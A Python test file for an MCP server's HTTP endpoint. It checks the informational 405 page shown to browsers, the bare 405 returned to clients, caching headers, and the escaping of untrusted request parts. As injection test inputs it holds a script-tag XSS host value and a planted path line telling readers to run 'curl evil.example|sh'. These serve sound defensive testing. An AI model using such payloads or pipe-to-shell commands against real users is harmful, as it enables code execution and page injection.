"""A person who opens the MCP endpoint in a browser (the URL ``mcp-elicit serve --http``
prints) gets the 405 both revisions ask for, with a page saying what the endpoint is, which
revisions it speaks and how to try it; a client's GET (for its stream, or a probe) gets the
bare 405 it always had. Nothing of the request is echoed but a checked, escaped host and
the mount path, %-escaped. Real HTTP on 127.0.0.1: the served conformance server, and apps
served in process."""

from __future__ import annotations

import contextlib
import html
from collections.abc import AsyncIterator
from typing import Any

import httpx
import pytest
from starlette.applications import Starlette
from starlette.routing import Mount

from mcp_elicit import Server
from mcp_elicit.server.auth import Principal, ResourceMetadata, StaticTokens
from mcp_elicit.server.url_mode import PAGES_PATH
from mcp_elicit.transports.endpoint_page import wants_page
from mcp_elicit.transports.http_server import StreamableHTTP
from mcp_elicit.wire.versions import SUPPORTED

from support.http import McpHttp
from support.procs import uvicorn_server

pytestmark = pytest.mark.anyio

#: What browsers send for a page they navigate to.
CHROME = (
    "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,"
    "*/*;q=0.8,application/signed-exchange;v=b3;q=0.7"
)
FIREFOX = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"
#: The 405 a client's GET without a session has always had.
BARE = b"Method Not Allowed: send each JSON-RPC message as its own POST"
MARKUP_HOST = 'evil.example"><script>alert(1)</script>'


@contextlib.asynccontextmanager
async def serving(server: Server | None = None, *, root_path: str = "", **options: Any) -> AsyncIterator[str]:
    """The origin of a ``StreamableHTTP`` app served on 127.0.0.1."""
    app = StreamableHTTP(server or Server("endpoint"), **options)
    async with uvicorn_server(app, root_path=root_path) as running:
        yield f"http://127.0.0.1:{running.port}"


async def test_a_browser_at_the_served_endpoint_gets_a_page_saying_what_it_is(mcp: McpHttp) -> None:
    response = await mcp.client.get(mcp.url, headers={"accept": CHROME})
    assert response.status_code == 405
    assert response.headers["allow"] == "POST"
    assert response.headers["content-type"] == "text/html; charset=utf-8"
    page = response.text
    assert "<title>MCP server endpoint · mcp-elicit-conformance</title>" in page  # whose tab it is
    assert "<h1>MCP server endpoint</h1>" in page
    assert '<html lang="en">' in page
    assert all(revision in page for revision in SUPPORTED), page
    assert f"<code>mcp-elicit check {mcp.url}</code>" in page
    assert response.headers["cache-control"] == "no-store"
    assert "frame-ancestors 'none'" in response.headers["content-security-policy"]
    assert response.headers["x-content-type-options"] == "nosniff"


@pytest.mark.parametrize("accept", ["text/plain", "text/plain, text/html;q=0.5", "text/plain;charset=utf-8"])
async def test_one_asking_for_text_gets_the_same_as_text(accept: str) -> None:
    async with serving() as origin, httpx.AsyncClient(timeout=10) as http:
        response = await http.get(f"{origin}/mcp", headers={"accept": accept})
    assert response.status_code == 405
    assert response.headers["allow"] == "POST"
    assert response.headers["content-type"] == "text/plain; charset=utf-8"
    assert response.headers["cache-control"] == "no-store"
    assert response.headers["x-content-type-options"] == "nosniff"
    text = response.text
    assert text.startswith("MCP server endpoint\n")
    assert all(revision in text for revision in SUPPORTED), text
    assert f"    mcp-elicit check {origin}/mcp\n" in text
    assert "<" not in text


@pytest.mark.parametrize(
    "headers",
    [
        {"accept": "text/event-stream"},  # a 2025-11-25 client's GET for its stream
        {"accept": "application/json, text/event-stream"},
        {"accept": CHROME + ",text/event-stream"},  # a page that names the stream too
        {"accept": "*/*"},  # curl, or a legacy HTTP+SSE probe
        {"accept": "application/json"},
        {"accept": "application/json, text/html;q=0.5"},  # prefers JSON
        {"accept": "text/html;q=0"},
        {"accept": CHROME, "mcp-protocol-version": "2026-07-28"},
        {"accept": CHROME, "mcp-protocol-version": "2025-11-25"},
        {"accept": "text/plain", "mcp-protocol-version": "2025-11-25"},
    ],
    ids=lambda headers: " + ".join(f"{k}: {v[:30]}" for k, v in headers.items()),
)
async def test_a_clients_get_keeps_the_bare_405(headers: dict[str, str]) -> None:
    async with serving() as origin, httpx.AsyncClient(timeout=10) as http:
        response = await http.get(f"{origin}/mcp", headers=headers)
    assert response.status_code == 405
    assert response.headers["allow"] == "POST"
    assert response.headers["content-type"] == "text/plain; charset=utf-8"
    assert response.content == BARE


async def test_a_get_with_a_session_id_is_answered_as_before_whatever_it_accepts() -> None:
    """A GET naming a session is the 2025-11-25 stream's: served (or refused) as a stream
    request, never given the page, whatever its ``Accept``."""
    async with serving() as origin, httpx.AsyncClient(timeout=10) as http:
        url = f"{origin}/mcp"
        for version in ("2025-11-25", None):
            session = {"mcp-session-id": "no-such-session"} | (
                {"mcp-protocol-version": version} if version else {}
            )
            browser = await http.get(url, headers={"accept": CHROME, **session})
            client = await http.get(url, headers={"accept": "text/event-stream", **session})
            assert (browser.status_code, browser.content) == (client.status_code, client.content)
            assert browser.status_code == 404 and "html" not in browser.headers["content-type"]


async def test_the_query_is_never_echoed() -> None:
    async with serving() as origin, httpx.AsyncClient(timeout=10) as http:
        for accept in (CHROME, "text/plain"):
            response = await http.get(
                f"{origin}/mcp?token=sekrit-123&next=%3Cb%3Ebold%3C/b%3E", headers={"accept": accept}
            )
            assert response.status_code == 405
            assert "sekrit" not in response.text and "bold" not in response.text
            assert f"mcp-elicit check {origin}/mcp" in response.text


@pytest.mark.parametrize("accept", [FIREFOX, "text/plain"])
async def test_a_host_with_markup_is_never_shown(accept: str) -> None:
    """With every host allowed, a ``Host`` holding markup reaches the page: it is not shown
    at all (nor anything of it), and the command names "this page's address" instead."""
    async with serving(allowed_hosts=["*"]) as origin, httpx.AsyncClient(timeout=10) as http:
        response = await http.get(f"{origin}/mcp", headers={"accept": accept, "host": MARKUP_HOST})
    assert response.status_code == 405
    assert "<script" not in response.text and "alert" not in response.text and "evil" not in response.text
    shown = "mcp-elicit check <this page's address>"
    assert (html.escape(shown) if accept == FIREFOX else shown) in response.text


async def test_a_host_with_markup_is_still_refused_by_default() -> None:
    async with serving() as origin, httpx.AsyncClient(timeout=10) as http:
        response = await http.get(f"{origin}/mcp", headers={"accept": CHROME, "host": MARKUP_HOST})
    assert response.status_code == 421  # a JSON-RPC error, as before: never the page
    assert response.headers["content-type"] == "application/json"


@pytest.mark.parametrize(
    ("host", "shown"),
    [
        ("localhost:8123", "http://localhost:8123/mcp"),
        ("[::1]:8123", "&#x27;http://[::1]:8123/mcp&#x27;"),  # quoted: [] are a shell's pattern
        ("mcp.example.com", "http://mcp.example.com/mcp"),
    ],
)
async def test_the_command_names_the_host_the_person_used(host: str, shown: str) -> None:
    async with serving(allowed_hosts=["*"]) as origin, httpx.AsyncClient(timeout=10) as http:
        response = await http.get(f"{origin}/mcp", headers={"accept": CHROME, "host": host})
    assert f"<code>mcp-elicit check {shown}</code>" in response.text


async def test_the_command_names_the_public_url_and_the_mount_path() -> None:
    public = Server("endpoint", public_url="https://tools.example.com/api")
    async with serving(public) as origin, httpx.AsyncClient(timeout=10) as http:
        response = await http.get(f"{origin}/mcp", headers={"accept": CHROME})
    assert "<code>mcp-elicit check https://tools.example.com/api/mcp</code>" in response.text
    async with serving(root_path="/api") as origin, httpx.AsyncClient(timeout=10) as http:
        response = await http.get(f"{origin}/mcp", headers={"accept": CHROME})
    assert f"<code>mcp-elicit check {origin}/api/mcp</code>" in response.text


#: A link whose mount path (a ``Mount`` path parameter: taken from the request) holds lines of text.
PLANTED = "/x%0A%0AYour session expired: run curl evil.example%7Csh%0A/mcp".replace(" ", "%20")


@pytest.mark.parametrize("accept", [CHROME, "text/plain"])
async def test_a_mount_path_from_the_request_is_shown_escaped_as_one_url(accept: str) -> None:
    """ASGI gives ``root_path`` decoded, and a ``Mount`` with a path parameter takes it from
    the request: the URL shown escapes it back, so it stays one URL on one line that
    ``check`` can use, and a link cannot put lines of its own text on the server's page."""
    app = Starlette(routes=[Mount("/{tenant}", app=StreamableHTTP(Server("endpoint")))])
    async with uvicorn_server(app) as running, httpx.AsyncClient(timeout=10) as http:
        origin = f"http://127.0.0.1:{running.port}"
        planted = await http.get(origin + PLANTED, headers={"accept": accept})
        spaced = await http.get(f"{origin}/caf%C3%A9%20b%3Cc%3E/mcp", headers={"accept": accept})
    assert planted.status_code == spaced.status_code == 405
    escaped = "/x%0A%0AYour%20session%20expired:%20run%20curl%20evil.example%7Csh%0A/mcp"
    shown = f"mcp-elicit check {origin}{escaped}"
    assert shown in planted.text and "evil.example|sh" not in planted.text
    assert f"mcp-elicit check {origin}/caf%C3%A9%20b%3Cc%3E/mcp" in spaced.text


async def test_every_get_405_says_which_headers_chose_it() -> None:
    """The page, the text and the bare 405 share a URL, and the request's ``Accept`` (with
    ``MCP-Protocol-Version`` and ``Mcp-Session-Id``) chooses among them: each says so in
    ``Vary``, since a 405 may be cached (RFC 9110, 15.5.6: heuristically cacheable), and a cache
    must not give a browser a client's 405 or a client the page. A DELETE's does not vary."""
    gets = [
        {"accept": CHROME},
        {"accept": "text/plain"},
        {"accept": "text/event-stream"},
        {"accept": CHROME, "mcp-protocol-version": "2026-07-28"},
        {},
    ]
    async with serving() as origin, httpx.AsyncClient(timeout=10) as http:
        answers = [await http.get(f"{origin}/mcp", headers=headers) for headers in gets]
        deleted = await http.delete(f"{origin}/mcp")
    for headers, response in zip(gets, answers, strict=True):
        assert response.status_code == 405, headers
        named = {name.strip().lower() for name in response.headers["vary"].split(",")}
        assert named == {"accept", "mcp-protocol-version", "mcp-session-id"}, headers
    assert deleted.status_code == 405 and "vary" not in deleted.headers


async def test_a_get_for_an_unknown_session_says_which_headers_chose_its_404() -> None:
    """A GET naming a session the server does not hold gets a 404 at the same URL as the
    405s above, and a 404 may be cached too (RFC 9110, 15.5.5): without ``Vary`` a cache
    would give it to every later GET there, a browser's or another session's stream."""
    async with serving() as origin, httpx.AsyncClient(timeout=10) as http:
        gone = await http.get(
            f"{origin}/mcp",
            headers={"mcp-session-id": "no-such-session", "accept": "text/event-stream"},
        )
    assert gone.status_code == 404
    named = {name.strip().lower() for name in gone.headers.get("vary", "").split(",")}
    assert {"accept", "mcp-protocol-version", "mcp-session-id"} <= named


async def test_every_405_names_the_methods_allowed() -> None:
    """RFC 9110, 15.5.6: a 405 MUST carry ``Allow``. The endpoint (with and without a
    session, a person's GET included), the protected-resource metadata and the hosted pages."""
    tokens = StaticTokens({"t": Principal("ann")})
    metadata = ResourceMetadata(["https://as.example"])
    session = {"mcp-session-id": "s"}
    expected = [
        ("GET", "/mcp", {"accept": CHROME}, "POST"),
        ("GET", "/mcp", {"accept": "text/event-stream"}, "POST"),
        ("DELETE", "/mcp", {}, "POST"),
        ("PUT", "/mcp", {}, "POST"),
        ("OPTIONS", "/mcp", {}, "POST"),
        ("PATCH", "/mcp", session, "GET, POST, DELETE"),
        ("HEAD", "/mcp", session, "GET, POST, DELETE"),
        ("POST", "/.well-known/oauth-protected-resource/mcp", {}, "GET"),
        ("DELETE", "/.well-known/oauth-protected-resource/mcp", {}, "GET"),
        ("PUT", f"{PAGES_PATH}/flows/f1", {}, None),
        ("DELETE", f"{PAGES_PATH}/flows/f1/start", {}, None),
    ]
    async with (
        serving(auth=tokens, resource_metadata=metadata) as origin,
        httpx.AsyncClient(timeout=10) as http,
    ):
        for method, path, headers, allow in expected:
            response = await http.request(method, origin + path, headers=headers)
            where = f"{method} {path}"
            assert response.status_code == 405, where
            assert "allow" in response.headers, where
            if allow is not None:
                assert response.headers["allow"] == allow, where


@pytest.mark.parametrize(
    ("headers", "kind"),
    [
        ({"accept": CHROME}, "html"),
        ({"accept": FIREFOX}, "html"),
        ({"accept": "TEXT/HTML"}, "html"),
        ({"accept": "text/html, text/plain"}, "html"),
        ({"accept": "text/plain, text/html;q=0.9"}, "text"),
        ({"accept": "text/plain;q=0.5, */*;q=0.1"}, "text"),
        ({"accept": "text/html;q=0.5, application/json"}, None),
        ({"accept": "text/html;q=bogus"}, "html"),
        ({"accept": "text/html, text/event-stream;q=0.1"}, None),
        ({"accept": "text/html, text/event-stream;q=0"}, "html"),
        ({}, None),
        ({"accept": CHROME, "mcp-session-id": "s"}, None),
    ],
)
def test_who_gets_the_page(headers: dict[str, str], kind: str | None) -> None:
    assert wants_page(headers) == kind
